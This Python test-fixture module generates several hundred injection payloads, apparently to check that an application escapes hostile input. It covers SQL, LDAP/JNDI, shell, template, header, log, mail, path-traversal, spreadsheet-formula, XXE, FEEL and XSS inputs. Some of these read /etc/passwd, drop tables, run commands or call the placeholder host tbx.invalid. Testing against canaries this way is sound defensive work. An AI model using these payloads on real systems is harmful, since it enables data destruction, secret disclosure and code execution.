"""What somebody would type to have it run: five hundred texts and more, by the language that would take them up.

Each family is a few attempts in several wrappings. `<tbx` shows that an answer repeated a text without escaping it,
`tbx_canary` is a table that no page knows, 1337 times 1337 is computed by nobody by chance.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product
from typing import Final

from tests.hostile.values import MARK

CANARY: Final = "tbx_canary"
HEADER: Final = "X-Tbx-Canary"
COMPUTED: Final = str(1337 * 1337)
TOUCHED: Final = "/tmp/tbx-canary-touched"  # noqa: S108 (what an attacker would write to)
PASSWD: Final = "root:x:0:"

_STATEMENTS: Final = (
    f"DROP TABLE {CANARY}", f"DELETE FROM {CANARY}", f"UPDATE {CANARY} SET word = 'x'",
    f"INSERT INTO {CANARY} VALUES (9, 'x')", f"TRUNCATE {CANARY}", "SELECT pg_sleep(9)",
    f"COPY {CANARY} TO PROGRAM 'touch {TOUCHED}'", "ROLLBACK", "SET ROLE tongban_owner",
)  # fmt: skip
_ENDS: Final = ("'; {} --", '"; {} --', "); {} --", "1; {} --", "'); {}; --", "$$; {} --", "\\'; {} --", "%27; {} --")
_PREDICATES: Final = (
    "OR 1=1", "OR 'a'='a", "AND 1=0", "OR 1=1 LIMIT 1", "OR EXISTS(SELECT 1)", "OR pg_sleep(9) IS NULL", "|| 'a",
    "UNION SELECT NULL", f"UNION ALL SELECT word FROM {CANARY}", "UNION SELECT password FROM agencies_user",
    "ORDER BY 99", "OR CAST((SELECT version()) AS int)=1", "OR (SELECT count(*) FROM cases_case)>0", "IS NOT NULL",
)  # fmt: skip
_OPENS: Final = ("' {} --", '" {} --', "1 {}", "') {} --", "1) {} --", "' {} #", "' {} /*", "'/**/{}/**/--", "＇ {} --")
_COMMANDS: Final = (f"touch {TOUCHED}", "cat /etc/passwd", "sleep 9", "id", "nslookup tbx.invalid")
_SHELLS: Final = ("; {}", "| {}", "& {}", "&& {}", "|| {}", "$({})", "`{}`", "\n{}\n", "'; {} #", '"; {} #', "%0a{}",
                  "{{{}}}", "-oProxyCommand={}")  # fmt: skip
_DIRECTORY: Final = (
    "*", "*)(uid=*", "*)(|(uid=*))", "admin)(&)", "admin)(!(&(1=0)))", "*)(objectClass=*", ")(cn=*))(|(cn=*",
    "\\2a\\29\\28uid=\\2a", "*()|&'", "admin*)((|userPassword=*)", "x)(|(objectClass=*)(cn=x", "(&(uid=*)(x=*))",
    "cn=x,dc=tbx,dc=invalid", "uid=x+cn=y", "\\00", "#AABB", "x\\,ou=y", "*)(&(objectClass=void", "!(uid=x)",
    "ldap://tbx.invalid/??sub", "${jndi:ldap://tbx.invalid/a}", "${${lower:j}ndi:rmi://tbx.invalid/a}",
)  # fmt: skip
_SUMS: Final = (
    "1337*1337", "1337|multiply:1337", "self.__class__.__mro__", "request.META.SECRET_KEY", "settings.SECRET_KEY",
    "''.__class__.__base__.__subclasses__()", "[].__init__.__globals__", "config.items()",
)  # fmt: skip
_TEMPLATES: Final = ("{{{{{}}}}}", "{{{{ {} }}}}", "${{{}}}", "#{{{}}}", "<%= {} %>", "{{% print({}) %}}", "*{{{}}}",
                     "@({})", "[[{}]]", "{{0.{}}}", "%({})s", "~{{{}}}")  # fmt: skip
_TAGS: Final = ("{% debug %}", "{% load static %}", "{% include '/etc/passwd' %}", "{% ssi /etc/passwd %}",
                "{% extends request.GET.x %}", "{% csrf_token %}", "{#", "{%", "{{", "}}", "%}",
                "#set($x=1)")  # fmt: skip
_BREAKS: Final = ("\r\n", "\n", "\r", "%0d%0a", "\u560a\u560d", "\u2028", "\x0b", "\x85", "\\r\\n")
_HEADERS: Final = (f"{HEADER}: 1", "Set-Cookie: tbx=1", "Location: //tbx.invalid", f"\r\n<script>{MARK}>",
                   "Content-Length: 0", "HTTP/1.1 200 OK")  # fmt: skip
_LINES: Final = ("ERROR django.request: tbx-forged", "2026-11-02 10:00:00 INFO 审计 tbx-forged", "\x1b[2J tbx-forged",
                 "\x1b]0;tbx-forged\x07", "tbx-forged\t200\t-")  # fmt: skip
_MAIL: Final = (
    "Bcc: x@tbx.invalid", "To: x@tbx.invalid", "Subject: tbx", ".\r\nMAIL FROM:<x@tbx.invalid>", "RCPT TO:<x>",
    "Content-Type: text/html", "DATA\r\n.\r\nQUIT",
)  # fmt: skip
_PLACES: Final = ("etc/passwd", "etc/shadow", "proc/self/environ", "windows/win.ini", ".env")
_CLIMBS: Final = ("../../../../../../{}", "..%2f..%2f..%2f..%2f{}", "....//....//....//{}", "/{}", "file:///{}",
                  "\\..\\..\\{}", "%252e%252e%252f{}", "..;/..;/{}", "/{}\x00.pdf", "\uff0e\uff0e/{}",
                  "php://filter/resource={}")  # fmt: skip
_FORMULAS: Final = (
    "=1337*1337", "+1337*1337", "-1337*1337", "@SUM(1337*1337)", "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://tbx.invalid")',
    "=IMPORTXML(\"http://tbx.invalid\",\"//a\")", "\t=1337*1337", "\r=1337*1337", "＝1337*1337", "%0A=1+1",
    "=DDE(\"a\";\"b\")",
    "=WEBSERVICE(\"http://tbx.invalid\")", '";=1337*1337', "甲\n=1337*1337", "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C x'!D2",
    "=1+1\",=2", "@SUM(1+1)*cmd|' /C x'!A0", "|cmd' /C x'!A0",
)  # fmt: skip
_DRAWN: Final = (
    "</bpmn:process><bpmn:process id=\"tbx\">",
    "<bpmn:scriptTask id=\"t\"><bpmn:script>1</bpmn:script></bpmn:scriptTask>",
    "<![CDATA[tbx]]>", "]]><tbx>", "<?xml version=\"1.0\"?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
    "<!DOCTYPE x SYSTEM \"http://tbx.invalid/x.dtd\">", "&e;", "&#0;", "&#x3c;tbx&#x3e;", "<?php phpinfo(); ?>",
    "<xi:include href=\"file:///etc/passwd\" parse=\"text\"/>", "<!--", "-->", "<x a=\"1\" a=\"2\"/>",
    "xmlns:tb=\"urn:tbx\"",
    "<bpmn:extensionElements><camunda:executionListener class=\"Tbx\"/></bpmn:extensionElements>",
    "\" tb:act=\"decide",
    "<xsl:value-of select=\"system-property('xsl:version')\"/>", "' or '1'='1", "//user[name/text()='' or '1'='1']",
)  # fmt: skip
_FEEL: Final = (
    "1337*1337", "for i in 1..1000000000 return i", "if true then 1 else tbx", "external({java:{class:\"x\"}})",
    "function(a) a(a)", "every x in [1] satisfies x = 1", "get value(context, \"__class__\")", "true) or (true",
    "amount > 0 or true", "\"a\" + \"b\"", "{a: 1}.a", "[1..99999999999]", "not(false)",
    "date(\"9999-99-99\")", "instance of",
    "?", "null or true", "((((((((((1))))))))))", "some x in x satisfies x", "__import__('os').system('id')",
)  # fmt: skip
_PAGES: Final = (
    f"{MARK}>", f"'\"><{MARK[1:]} x=1>", f"</script>{MARK}>", f"</title>{MARK}>", f"</textarea>{MARK}>",
    f"--><!--{MARK}>",
    f"<svg/onload=1>{MARK}>", f"<img src=x onerror=1>{MARK}>", f"<a href=javascript:1>{MARK}>",
    f"\" autofocus onfocus=1 {MARK}>",
    f"<style>{MARK}>", f"<base href=//tbx.invalid>{MARK}>", f"<iframe srcdoc=x>{MARK}>", f"&lt;{MARK}>",
    f"%3Ctbx{MARK}>",
)  # fmt: skip


def _wrapped(wrappings: tuple[str, ...], texts: tuple[str, ...]) -> list[str]:
    return [wrapping.format(text) for wrapping, text in product(wrappings, texts)]


FAMILIES: Final[dict[str, list[str]]] = {
    "sql": _wrapped(_ENDS, _STATEMENTS) + _wrapped(_OPENS, _PREDICATES),
    "directory": list(_DIRECTORY),
    "shell": _wrapped(_SHELLS, _COMMANDS),
    "template": _wrapped(_TEMPLATES, _SUMS) + list(_TAGS),
    "header": [f"甲{gap}{head}" for gap, head in product(_BREAKS, _HEADERS)],
    "log": [f"甲{gap}{line}" for gap, line in product(_BREAKS, _LINES)],
    "mail": [f"a@b.cn{gap}{line}" for gap, line in product(_BREAKS[:4], _MAIL)],
    "path": _wrapped(_CLIMBS, _PLACES),
    "formula": list(_FORMULAS),
    "drawing": list(_DRAWN),
    "feel": list(_FEEL),
    "page": list(_PAGES),
}  # fmt: skip


def payloads() -> Iterator[tuple[str, str]]:
    """Every text once, with its family."""
    seen: set[str] = set()
    for family, texts in FAMILIES.items():
        for text in texts:
            if text not in seen:
                seen.add(text)
                yield family, text


ALL: Final[tuple[tuple[str, str], ...]] = tuple(payloads())
